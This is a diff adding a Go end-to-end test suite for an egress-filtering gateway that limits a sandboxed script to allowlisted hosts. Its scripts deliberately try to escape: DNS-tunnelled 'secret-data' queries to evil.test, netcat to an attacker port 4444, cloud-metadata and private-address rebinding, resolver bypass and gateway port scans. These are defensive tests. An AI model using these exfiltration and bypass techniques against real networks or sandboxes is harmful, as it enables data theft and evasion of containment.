@@ -1,0 +1,289 @@
+package e2e
+
+import (
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// prelude defines `try NAME CMD...`, which runs CMD quietly and prints
+// NAME=EXIT, so one agent script can make many attempts.
+const prelude = `try() { n=$1; shift; "$@" >/dev/null 2>&1; echo "$n=$?"; }
+`
+
+// Exit codes the assertions read.
+const (
+	ok            = "0"
+	curlNoResolve = "6" // could not resolve host
+	curlRefused   = "7" // failed to connect: a reset or an ICMP reject, not a timeout
+)
+
+func (w *world) curl() string {
+	return "curl -sS --max-time 5 --cacert " + w.caFile
+}
+
+func TestAllowedHostsV4V6(t *testing.T) {
+	w := newWorld(t)
+	c := w.curl()
+	r := w.run(t, []string{"--allow", "allowed.test", "--allow", "www.allowed.test:443"}, prelude+`
+try v4 `+c+` -4 https://allowed.test/
+try v6 `+c+` -6 https://allowed.test/
+try http `+c+` http://allowed.test/
+try www `+c+` https://www.allowed.test/
+try body sh -c '`+c+` https://allowed.test/ | grep -q "hello from allowed.test"'
+`)
+	expect(t, r, map[string]string{"v4": ok, "v6": ok, "http": ok, "www": ok, "body": ok})
+	if r.code != 0 {
+		t.Errorf("exit status %d, want 0", r.code)
+	}
+	var v4, v6 bool
+	for _, c := range w.web.Contacts() {
+		v4 = v4 || strings.HasPrefix(c.Remote, "198.18.1.1:")
+		v6 = v6 || strings.HasPrefix(c.Remote, "[2001:db8:1::1]:")
+	}
+	if !v4 || !v6 {
+		t.Errorf("web server saw v4=%v v6=%v from the gateway's masqueraded addresses: %+v", v4, v6, w.web.Contacts())
+	}
+}
+
+func TestWildcardIsNotApex(t *testing.T) {
+	w := newWorld(t)
+	c := w.curl()
+	r := w.run(t, []string{"--allow", "*.allowed.test"}, prelude+`
+try sub `+c+` https://www.allowed.test/
+try apex `+c+` https://allowed.test/
+try lookalike `+c+` https://evilallowed.test/
+`)
+	expect(t, r, map[string]string{"sub": ok, "apex": curlNoResolve, "lookalike": curlNoResolve})
+	if q := w.auth.AskedAbout("allowed.test"); len(q) > 0 {
+		for _, name := range q {
+			if strings.HasPrefix(name, "allowed.test ") {
+				t.Errorf("the apex was asked upstream: %v", q)
+			}
+		}
+	}
+}
+
+func TestDeniedNamesNeverReachUpstream(t *testing.T) {
+	w := newWorld(t)
+	r := w.run(t, []string{"--allow", "allowed.test"}, prelude+`
+for q in "evil.test" "TXT c2VjcmV0LWRhdGE.evil.test" "x.allowed.test" "AAAA allowed.test.evil.test" "MX evil.test" "NULL x.evil.test" "HTTPS evil.test"; do
+  dig +time=2 +tries=1 @`+gwAddr+` $q | grep -q 'status: NXDOMAIN' ; echo "nx_$(echo $q | tr ' .' '__')=$?"
+done
+dig +time=2 +tries=1 +tcp +keepopen @`+gwAddr+` allowed.test evil.test x1.evil.test > /tmp/$$.tcp
+echo tcp_allowed=$(grep -c 'status: NOERROR' /tmp/$$.tcp)
+echo tcp_denied=$(grep -c 'status: NXDOMAIN' /tmp/$$.tcp)
+dig @`+gwAddr+` evil.test | grep -q 'EDE: 15 (Blocked)'; echo ede=$?
+try getent getent hosts y.evil.test
+`)
+	for k, v := range r.values() {
+		if strings.HasPrefix(k, "nx_") && v != "0" {
+			t.Errorf("%s: not NXDOMAIN", k)
+		}
+	}
+	expect(t, r, map[string]string{"tcp_allowed": "1", "tcp_denied": "2", "ede": "0", "getent": "2"})
+	if q := w.auth.AskedAbout("evil.test"); len(q) > 0 {
+		t.Errorf("denied names reached the upstream: %v", q)
+	}
+	for _, q := range w.auth.Asked() {
+		if strings.HasPrefix(q, "x.allowed.test") {
+			t.Errorf("subdomain of an exact entry reached the upstream: %s", q)
+		}
+	}
+	if !strings.Contains(r.stderr, "reason=name_not_allowed") {
+		t.Errorf("refusals not logged with a reason on stderr")
+	}
+}
+
+func TestDirectIPAndOtherPorts(t *testing.T) {
+	w := newWorld(t)
+	c := w.curl()
+	r := w.run(t, []string{"--allow", "allowed.test:443"}, prelude+`
+try resolve dig +short allowed.test
+try allowed `+c+` https://allowed.test/
+try port80 `+c+` http://allowed.test/
+try ssh nc -z -w 3 `+allowedAddr+` 22
+try alt nc -z -w 3 `+allowedAddr+` 8443
+try ip443 `+c+` -k https://`+evilAddr+`/
+try ip80 `+c+` http://`+evilAddr+`/
+try ip4444 nc -z -w 3 `+evilAddr+` 4444
+try ip22 nc -z -w 3 `+evilAddr+` 22
+try ip6 `+c+` -k https://[`+evilAddr6+`]/
+try resolve_override `+c+` -k --resolve allowed.test:443:`+evilAddr+` https://allowed.test/
+echo x | nc -u -w 1 `+evilAddr+` 51820; echo x | nc -u -w 1 `+evilAddr+` 123; echo x | nc -u -w 1 `+allowedAddr+` 53
+`)
+	expect(t, r, map[string]string{
+		"allowed": ok, "port80": curlRefused, "ssh": "1", "alt": "1",
+		"ip443": curlRefused, "ip80": curlRefused, "ip4444": "1", "ip22": "1", "ip6": curlRefused,
+		"resolve_override": curlRefused,
+	})
+	noContacts(t, "an attacker endpoint or an unlisted port", w.sinkContacts())
+	if !strings.Contains(r.stderr, "reason=no_set_entry") {
+		t.Errorf("firewall refusals not logged: %s", r.stderr)
+	}
+}
+
+func TestExternalResolversAreRedirected(t *testing.T) {
+	w := newWorld(t)
+	r := w.run(t, []string{"--allow", "allowed.test"}, prelude+`
+dig +time=2 +tries=1 @`+publicDNS+` x1.evil.test | grep -q 'status: NXDOMAIN'; echo udp=$?
+dig +time=2 +tries=1 +tcp @`+publicDNS+` x2.evil.test | grep -q 'status: NXDOMAIN'; echo tcp=$?
+dig +time=2 +tries=1 @`+publicDNS+` allowed.test | grep -q '`+allowedAddr+`'; echo allowed=$?
+dig +time=2 +tries=1 -6 @`+evilAddr6+` x3.evil.test | grep -q 'status: NXDOMAIN'; echo v6=$?
+try port5353 dig +time=2 +tries=1 -p 5353 @`+publicDNS+` x4.evil.test
+try dot nc -z -w 3 `+publicDNS+` 853
+echo x | nc -u -w 1 `+publicDNS+` 853
+`)
+	expect(t, r, map[string]string{"udp": "0", "tcp": "0", "allowed": "0", "v6": "0", "port5353": "9", "dot": "1"})
+	if q := w.public.Asked(); len(q) > 0 {
+		t.Errorf("the public resolver was reached: %v", q)
+	}
+	if q := w.auth.AskedAbout("evil.test"); len(q) > 0 {
+		t.Errorf("denied names reached the upstream: %v", q)
+	}
+	noContacts(t, "DoT/DoQ endpoints", w.sinkContacts())
+	if !strings.Contains(r.stderr, "reason=dot") {
+		t.Errorf("DoT refusal not logged")
+	}
+}
+
+func TestQUICAndICMP(t *testing.T) {
+	w := newWorld(t)
+	w.inet.Run(t, "nft", "add table inet count; add chain inet count in { type filter hook input priority 0; }; add rule inet count in icmp type echo-request counter; add rule inet count in icmpv6 type echo-request counter")
+	r := w.run(t, []string{"--allow", "allowed.test"}, prelude+`
+dig +short allowed.test >/dev/null
+echo quic | nc -u -w 1 `+allowedAddr+` 443
+echo quic | nc -u -w 1 `+evilAddr+` 443
+try ping ping -c 1 -W 1 `+evilAddr+`
+try ping_allowed ping -c 1 -W 1 `+allowedAddr+`
+try ping6 ping -6 -c 1 -W 1 `+evilAddr6+`
+`)
+	expect(t, r, map[string]string{"ping": "1", "ping_allowed": "1", "ping6": "1"})
+	noContacts(t, "a UDP 443 listener", w.sinkContacts())
+	if out := w.inet.Run(t, "nft", "list", "table", "inet", "count"); strings.Contains(out, "packets 1") || !strings.Contains(out, "packets 0") {
+		t.Errorf("ICMP echo reached the fake internet:\n%s", out)
+	}
+	if !strings.Contains(r.stderr, "reason=quic") {
+		t.Errorf("QUIC refusal not logged")
+	}
+}
+
+func TestRebindingToPrivateAddresses(t *testing.T) {
+	w := newWorld(t)
+	c := w.curl()
+	r := w.run(t, []string{"--allow", "meta.allowed.test", "--allow", "private.allowed.test", "--allow", "cgnat.allowed.test", "--allow", "gateway.allowed.test"}, prelude+`
+echo meta_a=$(dig +short meta.allowed.test | wc -l)
+echo meta_aaaa=$(dig +short AAAA meta.allowed.test | wc -l)
+echo private=$(dig +short private.allowed.test | wc -l)
+echo cgnat=$(dig +short cgnat.allowed.test | wc -l)
+echo gateway=$(dig +short gateway.allowed.test | wc -l)
+try curl_meta `+c+` http://meta.allowed.test/
+try curl_meta_ip `+c+` --resolve meta.allowed.test:80:169.254.169.254 http://meta.allowed.test/
+try curl_private `+c+` --resolve private.allowed.test:443:10.0.0.1 https://private.allowed.test/
+`)
+	expect(t, r, map[string]string{"meta_a": "0", "meta_aaaa": "0", "private": "0", "cgnat": "0", "gateway": "0",
+		"curl_meta": curlNoResolve, "curl_meta_ip": curlRefused, "curl_private": curlRefused})
+	noContacts(t, "a metadata or private canary", w.sinkContacts())
+	if !strings.Contains(r.stderr, "reason=addresses_dropped") {
+		t.Errorf("dropped answers not logged")
+	}
+}
+
+func TestPrivateEntryReachesPrivateAddress(t *testing.T) {
+	w := newWorld(t)
+	pol := filepath.Join(t.TempDir(), "p.yaml")
+	os.WriteFile(pol, []byte("version: 1\nallow:\n  - host: private.allowed.test\n    private: true\n    ports: [80]\n"), 0o644)
+	r := w.run(t, []string{"--policy", pol}, prelude+`
+echo private=$(dig +short private.allowed.test)
+try connect nc -z -w 3 10.0.0.1 80
+`)
+	expect(t, r, map[string]string{"private": "10.0.0.1", "connect": "0"})
+}
+
+func TestCNAMEChainAndShortTTL(t *testing.T) {
+	w := newWorld(t)
+	c := w.curl()
+	r := w.run(t, []string{"--allow", "chain.allowed.test", "--allow", "short.allowed.test"}, prelude+`
+try chain `+c+` https://chain.allowed.test/
+echo ttl=$(dig +noall +answer short.allowed.test | awk '{print $2}')
+sleep 3
+try late `+c+` --resolve short.allowed.test:443:`+allowedAddr+` https://short.allowed.test/
+`)
+	expect(t, r, map[string]string{"chain": ok, "ttl": "1", "late": ok})
+	for _, q := range w.auth.Asked() {
+		if strings.HasPrefix(q, "edge.cdn.test") || strings.HasPrefix(q, "l2.allowed.test") {
+			t.Errorf("the gateway queried a chain member by itself: %s", q)
+		}
+	}
+}
+
+func TestGatewayPortsClosed(t *testing.T) {
+	w := newWorld(t)
+	r := w.run(t, []string{"--allow", "allowed.test"}, prelude+`
+echo open4=$(nc -z -w 1 -v `+gwAddr+` 1-65535 2>&1 | grep -c succeeded)
+echo open_dns=$(nc -z -w 1 -v `+gwAddr+` 53 2>&1 | grep -c succeeded)
+try other_addr nc -z -w 2 198.18.1.1 53
+echo open6=$(nc -z -w 1 -v 2001:db8:a::1 1-65535 2>&1 | grep -c succeeded)
+try link_local sh -c 'nc -z -w 2 fe80::1%eth0 53'
+`)
+	expect(t, r, map[string]string{"open4": "1", "open_dns": "1", "open6": "1", "other_addr": "0"})
+	if !strings.Contains(r.stderr, "reason=gateway_port") {
+		t.Errorf("gateway port refusals not logged")
+	}
+}
+
+func TestExitStatusAndSignals(t *testing.T) {
+	w := newWorld(t)
+	if r := w.run(t, nil, "exit 7"); r.code != 7 {
+		t.Errorf("exit status %d, want 7", r.code)
+	}
+	if r := w.run(t, nil, "kill -KILL $$"); r.code != 128+9 {
+		t.Errorf("killed command: exit status %d, want 137", r.code)
+	}
+	if r := w.run(t, nil, "exec /nonexistent/command"); r.code == 0 {
+		t.Errorf("missing command: exit status 0")
+	}
+
+	for _, sig := range []string{"TERM", "INT"} {
+		ready := filepath.Join(t.TempDir(), "ready")
+		args := append(append([]string{"netns", "exec", w.gw.Name, sluiceBin}, sluiceArgs()...), "--", "sh", "-c",
+			"trap 'echo got-"+sig+"; exit 42' "+sig+"; touch "+ready+"; while :; do sleep 0.05; done")
+		cmd := exec.Command("ip", args...)
+		var out strings.Builder
+		cmd.Stdout, cmd.Stderr = &out, &out
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		waitFor(t, func() bool { _, err := os.Stat(ready); return err == nil })
+		sluicePid := findPid(t, w, cmd.Process.Pid)
+		exec.Command("kill", "-"+sig, fmt.Sprint(sluicePid)).Run()
+		err := cmd.Wait()
+		code := 0
+		if ee, ok := err.(*exec.ExitError); ok {
+			code = ee.ExitCode()
+		}
+		if code != 42 || !strings.Contains(out.String(), "got-"+sig) {
+			t.Errorf("SIG%s: exit %d, output %q; want the command to get the signal and exit 42", sig, code, out.String())
+		}
+		w.assertClean(t)
+	}
+}
+
+// findPid returns the pid of the sluice process started by `ip netns exec`
+// (ip execs sluice in place, so it is the same process).
+func findPid(t *testing.T, w *world, pid int) int { return pid }
+
+func waitFor(t *testing.T, cond func() bool) {
+	t.Helper()
+	deadline := time.Now().Add(20 * time.Second)
+	for !cond() {
+		if time.Now().After(deadline) {
+			t.Fatal("condition not met within 20 s")
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
